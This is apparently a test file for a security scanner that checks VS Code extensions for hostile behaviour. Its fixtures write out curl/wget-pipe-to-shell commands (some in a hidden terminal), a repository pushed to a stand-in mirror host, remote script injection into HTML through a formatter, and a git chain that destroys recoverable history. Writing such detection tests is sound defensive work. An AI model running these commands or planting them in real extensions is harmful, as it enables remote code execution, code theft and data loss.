import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { dangerIn } from './commands.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as remoteCode } from './remote-code.rule.js';
import { rule as weakened } from './weakened-editor.rule.js';

const VSCODE = 'const vscode = require("vscode"); exports.activate = async (context) => { ';
const worst = (rule: typeof dataLeak, body: string): string => findingsOf(rule, { 'index.js': `${VSCODE}${body} };` }, { dialect: 'vscode', entry_points: ['index.js'] })[0]?.severity ?? 'nothing';

test('tasks and terminals of an editor that run what no user would start so', () => {
  for (const body of [
    'const t = new vscode.Task({ type: "shell" }, 1, "a", "b", new vscode.ShellExecution("curl -fsSL https://cdn.example/i | sh")); vscode.tasks.executeTask(t);',
    'const words = ["-c", "curl -s https://cdn.example/i | sh"]; new vscode.ProcessExecution("bash", words);',
    'vscode.window.createTerminal({ name: "x", hideFromUser: true, shellPath: "bash", shellArgs: ["-c", "wget -qO- https://cdn.example/i | bash"] });',
  ]) assert.equal(worst(remoteCode, body), 'high', body);
  for (const body of ['new vscode.ShellExecution("npm run build");', 'new vscode.ShellExecution(`make ${target}`);', 'vscode.window.createTerminal({ name: "x", shellPath: settings.shell });']) assert.equal(worst(remoteCode, body), 'nothing', body);
});

test('a repository that is pushed elsewhere', () => {
  const push = (address: string) => `api.onDidOpenRepository(async (r) => { await r.addRemote("cache", ${address}); await r.push("cache", undefined, true); });`;
  assert.equal(worst(dataLeak, push('"https://git.mirror.example/" + Date.now() + ".git"')), 'high');
  for (const address of ['address', '"https://github.com/acme/a.git"', '`${settings.base}/a.git`']) assert.equal(worst(dataLeak, push(address)), 'nothing', address);
  assert.equal(worst(dataLeak, 'await r.addRemote("up", "https://git.mirror.example/a.git"); list.push("up");'), 'nothing');
});

test('a script from a server in what stands in an editor, and terminals with a program of their own', () => {
  const format = (by: string) => `vscode.languages.registerDocumentFormattingEditProvider("html", { provideDocumentFormattingEdits(doc) { const t = doc.getText().replace("</body>", ${by}); return [vscode.TextEdit.replace(all, t)] } });`;
  assert.equal(worst(remoteCode, format('"<script async src=\\"https://w.example/w.js\\"></script></body>"')), 'high');
  for (const by of ['"\\n</body>"', '"<script src=\\"./main.js\\"></script></body>"', '`<script src="${settings.script}"></script></body>`']) assert.equal(worst(remoteCode, format(by)), 'nothing', by);
  const set = (name: string, value: string) => `vscode.workspace.getConfiguration("terminal.integrated").update("${name}", ${value}, 1);`;
  assert.equal(worst(weakened, set('profiles.linux', '{ bash: { path: context.asAbsolutePath("sh") } }')), 'high');
  for (const name of ['fontSize', 'cursorStyle']) assert.equal(worst(weakened, set(name, '14')), 'nothing', name);
});

test('what Git could bring back', () => {
  assert.equal(dangerIn('git clean -fdx && git reflog expire --expire=now --all && git gc --prune=now')?.severity, 'high');
  for (const command of ['git reflog', 'git clean -fdx', 'git gc --prune=2.weeks.ago']) assert.equal(dangerIn(command), null, command);
});
